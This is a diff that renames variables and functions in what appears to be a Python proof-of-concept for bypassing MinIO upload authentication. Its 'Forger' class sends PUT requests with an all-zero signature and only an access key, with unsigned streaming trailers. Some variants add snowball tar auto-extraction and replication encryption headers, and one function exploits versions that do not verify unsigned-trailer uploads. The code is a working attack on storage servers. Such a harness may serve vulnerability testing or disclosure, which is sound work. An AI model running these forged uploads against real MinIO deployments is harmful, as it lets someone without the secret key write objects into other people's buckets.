@@ -14,11 +14,11 @@ from urllib.parse import quote, urlsplit
 from minio.credentials.credentials import Credentials
 from minio.signer import sign_v4_s3
 
-UNSIGNED = "STREAMING-UNSIGNED-PAYLOAD-TRAILER"
-CSV = b"first_name,last_name,birthts\nForged,Without Secret,946674000000\n"
+UNSIGNED_TRAILER = "STREAMING-UNSIGNED-PAYLOAD-TRAILER"
+FORGED_CSV = b"first_name,last_name,birthts\nForged,Without Secret,946674000000\n"
 
 
-class Reply(NamedTuple):
+class HttpReply(NamedTuple):
     """A server's response.  Header names are in lower case."""
 
     status: int
@@ -26,14 +26,16 @@ class Reply(NamedTuple):
     body: bytes
 
 
-def send(endpoint: str, method: str, target: str, body: bytes = b"", headers: Mapping[str, str] | None = None) -> Reply:
+def send_unsigned(
+    endpoint: str, method: str, target: str, body: bytes = b"", headers: Mapping[str, str] | None = None
+) -> HttpReply:
     """Send one request unchanged, without signing it."""
     connection = http.client.HTTPConnection(urlsplit(endpoint).netloc, timeout=10)
     try:
         connection.request(method, target, body, dict(headers or {}))
         response = connection.getresponse()
         content = response.read()
-        return Reply(response.status, {name.lower(): value for name, value in response.getheaders()}, content)
+        return HttpReply(response.status, {name.lower(): value for name, value in response.getheaders()}, content)
     finally:
         connection.close()
 
@@ -43,10 +45,10 @@ class Forger:
 
     def __init__(self, endpoint: str, access_key: str) -> None:
         self._endpoint = endpoint
-        self._when = datetime.now(UTC).strftime("%Y%m%dT%H%M%SZ")
-        self._credential = f"{access_key}/{self._when[:8]}/us-east-1/s3/aws4_request"
+        self._date = datetime.now(UTC).strftime("%Y%m%dT%H%M%SZ")
+        self._credential = f"{access_key}/{self._date[:8]}/us-east-1/s3/aws4_request"
 
-    def all(self, bucket: str, key: str, body: bytes = CSV) -> dict[str, Reply]:
+    def send_all(self, bucket: str, key: str, body: bytes = FORGED_CSV) -> dict[str, HttpReply]:
         """Send every kind of forged upload.  Return the replies by kind."""
         target = f"/{bucket}/{key}"
         snowball = {"Authorization": self._authorization, "X-Amz-Meta-Snowball-Auto-Extract": "true"}
@@ -55,7 +57,7 @@ class Forger:
             "X-Minio-Replication-Server-Side-Encryption-Seal-Algorithm": "DAREv2-HMAC-SHA256",
             "X-Minio-Replication-Server-Side-Encryption-Iv": base64.b64encode(bytes(32)).decode(),
         }
-        tar = _tar(key, body)
+        tar = _make_tar(key, body)
         return {
             "access key in the query": self._upload(target + self._query, body),
             "access key in the query, snowball": self._upload(
@@ -73,7 +75,7 @@ class Forger:
     def _query(self) -> str:
         return (
             f"?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential={quote(self._credential, safe='')}"
-            f"&X-Amz-Date={self._when}&X-Amz-Expires=600&X-Amz-SignedHeaders=host&X-Amz-Signature={'0' * 64}"
+            f"&X-Amz-Date={self._date}&X-Amz-Expires=600&X-Amz-SignedHeaders=host&X-Amz-Signature={'0' * 64}"
         )
 
     @property
@@ -83,18 +85,18 @@ class Forger:
 
     def _upload(
         self, target: str, body: bytes, headers: Mapping[str, str] | None = None, *, chunked: bool = True
-    ) -> Reply:
-        sent = _chunk(body) if chunked else body
-        own = {
-            "x-amz-content-sha256": UNSIGNED,
+    ) -> HttpReply:
+        request_body = _encode_chunk(body) if chunked else body
+        signed_headers = {
+            "x-amz-content-sha256": UNSIGNED_TRAILER,
             "x-amz-decoded-content-length": str(len(body)),
             "x-amz-trailer": "x-amz-checksum-crc32",
-            "x-amz-date": self._when,
+            "x-amz-date": self._date,
         }
-        return send(self._endpoint, "PUT", target, sent, {**own, **(headers or {})})
+        return send_unsigned(self._endpoint, "PUT", target, request_body, {**signed_headers, **(headers or {})})
 
 
-def upload_with_unsigned_trailer(endpoint: str, access_key: str, secret_key: str, bucket: str, key: str) -> Reply:
+def upload_with_unsigned_trailer(endpoint: str, access_key: str, secret_key: str, bucket: str, key: str) -> HttpReply:
     """Send an upload with an unsigned trailer and a valid signature.
 
     Some versions of MinIO do not verify the signature of such uploads.
@@ -103,30 +105,32 @@ def upload_with_unsigned_trailer(endpoint: str, access_key: str, secret_key: str
     target = f"/{bucket}/{key}"
     headers: dict[str, str | list[str] | tuple[str]] = {
         "Host": urlsplit(endpoint).netloc,
-        "x-amz-content-sha256": UNSIGNED,
-        "x-amz-decoded-content-length": str(len(CSV)),
+        "x-amz-content-sha256": UNSIGNED_TRAILER,
+        "x-amz-decoded-content-length": str(len(FORGED_CSV)),
         "x-amz-trailer": "x-amz-checksum-crc32",
         "x-amz-date": now.strftime("%Y%m%dT%H%M%SZ"),
     }
-    signed = sign_v4_s3(
+    signed_headers = sign_v4_s3(
         method="PUT",
         url=urlsplit(endpoint + target),
         region="us-east-1",
         headers=headers,
         credentials=Credentials(access_key, secret_key),
-        content_sha256=UNSIGNED,
+        content_sha256=UNSIGNED_TRAILER,
         date=now,
     )
-    return send(endpoint, "PUT", target, _chunk(CSV), {name: str(value) for name, value in signed.items()})
+    return send_unsigned(
+        endpoint, "PUT", target, _encode_chunk(FORGED_CSV), {name: str(value) for name, value in signed_headers.items()}
+    )
 
 
-def _chunk(body: bytes) -> bytes:
+def _encode_chunk(body: bytes) -> bytes:
     """Return the body as one aws-chunked chunk, followed by its checksum."""
     checksum = base64.b64encode(struct.pack(">I", zlib.crc32(body))).decode()
     return b"%x\r\n%s\r\n0\r\nx-amz-checksum-crc32:%s\r\n\r\n" % (len(body), body, checksum.encode())
 
 
-def _tar(name: str, body: bytes) -> bytes:
+def _make_tar(name: str, body: bytes) -> bytes:
     with io.BytesIO() as file:
         with tarfile.open(fileobj=file, mode="w") as tar:
             member = tarfile.TarInfo(name)
